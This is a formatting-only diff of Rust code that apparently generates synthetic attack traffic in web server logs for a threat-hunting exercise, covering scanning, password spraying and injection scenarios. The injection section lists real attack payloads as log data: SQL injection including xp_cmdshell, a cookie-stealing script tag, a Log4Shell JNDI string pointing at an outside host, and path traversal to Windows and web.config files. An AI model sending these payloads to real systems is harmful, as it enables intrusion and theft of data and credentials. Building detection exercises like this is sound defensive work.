@@ -20,13 +20,22 @@ pub struct Planted {
 
 /// Address ranges the attackers come from (hosting providers, VPN exits).
 const ATTACKER_PREFIXES: &[&str] = &[
-    "45.155.205", "185.220.101", "193.106.191", "91.240.118", "141.98.11", "89.248.165",
-    "162.142.125", "194.26.192", "80.82.77", "103.145.13",
+    "45.155.205",
+    "185.220.101",
+    "193.106.191",
+    "91.240.118",
+    "141.98.11",
+    "89.248.165",
+    "162.142.125",
+    "194.26.192",
+    "80.82.77",
+    "103.145.13",
 ];
 
 const GOBUSTER: &str = "gobuster/3.6";
 const SQLMAP: &str = "sqlmap/1.8.3#stable (https://sqlmap.org)";
-const NMAP: &str = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
+const NMAP: &str =
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
 const PYTHON: &str = "python-requests/2.31.0";
 const CURL: &str = "curl/8.5.0";
 /// A scanner posing as a browser: user-agent hunts miss it.
@@ -83,7 +92,10 @@ fn planted(
     errors: Vec<HttpError>,
     hunts: &[&str],
 ) -> Planted {
-    let times = requests.iter().map(|r| r.at_ms).chain(errors.iter().map(|e| e.at_ms));
+    let times = requests
+        .iter()
+        .map(|r| r.at_ms)
+        .chain(errors.iter().map(|e| e.at_ms));
     let first = times.clone().min().unwrap_or(0);
     let last = times.max().unwrap_or(0);
     Planted {
@@ -102,7 +114,14 @@ fn planted(
     }
 }
 
-fn not_found(at: i64, server: usize, ip: &str, agent: &str, stem: &str, dice: &mut Dice) -> Request {
+fn not_found(
+    at: i64,
+    server: usize,
+    ip: &str,
+    agent: &str,
+    stem: &str,
+    dice: &mut Dice,
+) -> Request {
     let mut r = Request::get(at, server, ip, agent, stem).status(404);
     r.sc_bytes = catalog::response_bytes(dice, stem, 404);
     r.cs_bytes = dice.range(180, 320);
@@ -123,10 +142,19 @@ fn dir_scanner(dice: &mut Dice, week: &Week, ip: String) -> Planted {
         .copied()
         .filter(|w| !hidden_roots.contains(w))
         .collect();
-    let exts = ["", ".php", ".aspx", ".bak", ".zip", ".txt", ".old", ".config", ".asp", ".jsp", ".html"];
+    let exts = [
+        "", ".php", ".aspx", ".bak", ".zip", ".txt", ".old", ".config", ".asp", ".jsp", ".html",
+    ];
     'outer: for ext in exts {
         for w in &words {
-            requests.push(not_found(at, WEB01, &ip, GOBUSTER, &format!("/{w}{ext}"), dice));
+            requests.push(not_found(
+                at,
+                WEB01,
+                &ip,
+                GOBUSTER,
+                &format!("/{w}{ext}"),
+                dice,
+            ));
             at += dice.range(500, 1_000) as i64;
             if requests.len() >= 640 {
                 break 'outer;
@@ -164,7 +192,10 @@ fn content_discovery(dice: &mut Dice, week: &Week, ip: String) -> Planted {
         let mut probe = not_found(at, WEB02, &ip, DISGUISED, path, dice);
         if let Some((_, status)) = catalog::HIDDEN_CONTENT.iter().find(|(p, _)| p == path) {
             probe = probe.status(*status);
-        } else if catalog::HIDDEN_CONTENT.iter().any(|(p, _)| p.starts_with(path.as_str())) {
+        } else if catalog::HIDDEN_CONTENT
+            .iter()
+            .any(|(p, _)| p.starts_with(path.as_str()))
+        {
             // A folder that exists: listing denied.
             probe = probe.status(403);
             probe.substatus = 14;
@@ -172,9 +203,14 @@ fn content_discovery(dice: &mut Dice, week: &Week, ip: String) -> Planted {
         requests.push(probe);
         at += dice.range(400, 1_500) as i64;
         if k % 40 == 39 {
-            let (hidden, status) = catalog::HIDDEN_CONTENT[(k / 40) % catalog::HIDDEN_CONTENT.len()];
+            let (hidden, status) =
+                catalog::HIDDEN_CONTENT[(k / 40) % catalog::HIDDEN_CONTENT.len()];
             let mut found = Request::get(at, WEB02, &ip, DISGUISED, hidden).status(status);
-            found.sc_bytes = if hidden.ends_with(".zip") { 48_213_911 } else { dice.range(300, 900) };
+            found.sc_bytes = if hidden.ends_with(".zip") {
+                48_213_911
+            } else {
+                dice.range(300, 900)
+            };
             found.taken_ms = if hidden.ends_with(".zip") { 9_412 } else { 4 };
             requests.push(found);
             at += dice.range(400, 1_500) as i64;
@@ -184,7 +220,11 @@ fn content_discovery(dice: &mut Dice, week: &Week, ip: String) -> Planted {
     at += 20 * 60_000;
     for (hidden, status) in catalog::HIDDEN_CONTENT {
         let mut again = Request::get(at, WEB02, &ip, DISGUISED, hidden).status(*status);
-        again.sc_bytes = if hidden.ends_with(".zip") { 48_213_911 } else { 512 };
+        again.sc_bytes = if hidden.ends_with(".zip") {
+            48_213_911
+        } else {
+            512
+        };
         again.taken_ms = 30;
         requests.push(again);
         at += 3_000;
@@ -203,7 +243,16 @@ fn content_discovery(dice: &mut Dice, week: &Week, ip: String) -> Planted {
 /// Seed 003: password spraying against the portal's Windows authentication,
 /// ~30 failed logons a minute for 25 minutes, then one success.
 fn brute_force(dice: &mut Dice, week: &Week, ip: String) -> Planted {
-    let users = ["administrator", "admin", "svc_backup", "jdoe", "asmith", "helpdesk", "scanner", "test"];
+    let users = [
+        "administrator",
+        "admin",
+        "svc_backup",
+        "jdoe",
+        "asmith",
+        "helpdesk",
+        "scanner",
+        "test",
+    ];
     let mut at = week.at(2, 21, 5);
     let mut requests = Vec::new();
     for _minute in 0..25 {
@@ -223,7 +272,13 @@ fn brute_force(dice: &mut Dice, week: &Week, ip: String) -> Planted {
     success.user = "CONTOSO\\svc_backup".into();
     success.sc_bytes = 14_211;
     requests.push(success);
-    let mut docs = Request::get(at + 4_000, WEB03, &ip, PYTHON, "/portal/documents/list.aspx");
+    let mut docs = Request::get(
+        at + 4_000,
+        WEB03,
+        &ip,
+        PYTHON,
+        "/portal/documents/list.aspx",
+    );
     docs.user = "CONTOSO\\svc_backup".into();
     requests.push(docs);
     planted(
@@ -245,7 +300,8 @@ fn port_scan(dice: &mut Dice, week: &Week, ip: String) -> Planted {
     let mut requests = Vec::new();
     for port in ports {
         for _ in 0..dice.range(1, 4) {
-            let mut r = Request::get(at, WEB02, &ip, NMAP, "/").status(if port == 443 { 200 } else { 400 });
+            let mut r =
+                Request::get(at, WEB02, &ip, NMAP, "/").status(if port == 443 { 200 } else { 400 });
             r.port = port;
             r.sc_bytes = catalog::response_bytes(dice, "/", r.status);
             r.taken_ms = dice.latency(3.0);
@@ -307,14 +363,34 @@ fn error_spike(dice: &mut Dice, week: &Week, ip: String) -> Planted {
 /// request whose user agent is a script tag.
 fn injection(dice: &mut Dice, week: &Week, ip: String) -> Planted {
     let payloads: [(&str, &str, u16); 10] = [
-        ("/products", "id=1%27%20UNION%20SELECT%20NULL,NULL,NULL--", 500),
+        (
+            "/products",
+            "id=1%27%20UNION%20SELECT%20NULL,NULL,NULL--",
+            500,
+        ),
         ("/products", "id=1%20AND%201=1", 200),
         ("/products", "id=1%27%20OR%20%271%27=%271", 500),
         ("/products", "id=1;WAITFOR%20DELAY%20%270:0:5%27--", 500),
-        ("/products", "id=1%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--", 500),
-        ("/search", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
-        ("/search", "q=%24%7Bjndi:ldap://45.155.205.99:1389/a%7D", 200),
-        ("/download.aspx", "file=..%2F..%2F..%2Fwindows%2Fwin.ini", 400),
+        (
+            "/products",
+            "id=1%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--",
+            500,
+        ),
+        (
+            "/search",
+            "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+            200,
+        ),
+        (
+            "/search",
+            "q=%24%7Bjndi:ldap://45.155.205.99:1389/a%7D",
+            200,
+        ),
+        (
+            "/download.aspx",
+            "file=..%2F..%2F..%2Fwindows%2Fwin.ini",
+            400,
+        ),
         ("/download.aspx", "file=../../web.config", 400),
         ("/products", "id=1;EXEC%20xp_cmdshell(%27whoami%27)--", 500),
     ];
@@ -323,7 +399,11 @@ fn injection(dice: &mut Dice, week: &Week, ip: String) -> Planted {
     for round in 0..9 {
         for (stem, query, status) in payloads {
             let mut r = Request::get(at, WEB01, &ip, SQLMAP, stem).status(status);
-            r.query = if round == 0 { query.to_string() } else { format!("{query}&r={round}") };
+            r.query = if round == 0 {
+                query.to_string()
+            } else {
+                format!("{query}&r={round}")
+            };
             r.sc_bytes = catalog::response_bytes(dice, stem, status);
             r.taken_ms = dice.latency(60.0) + 5;
             requests.push(r);
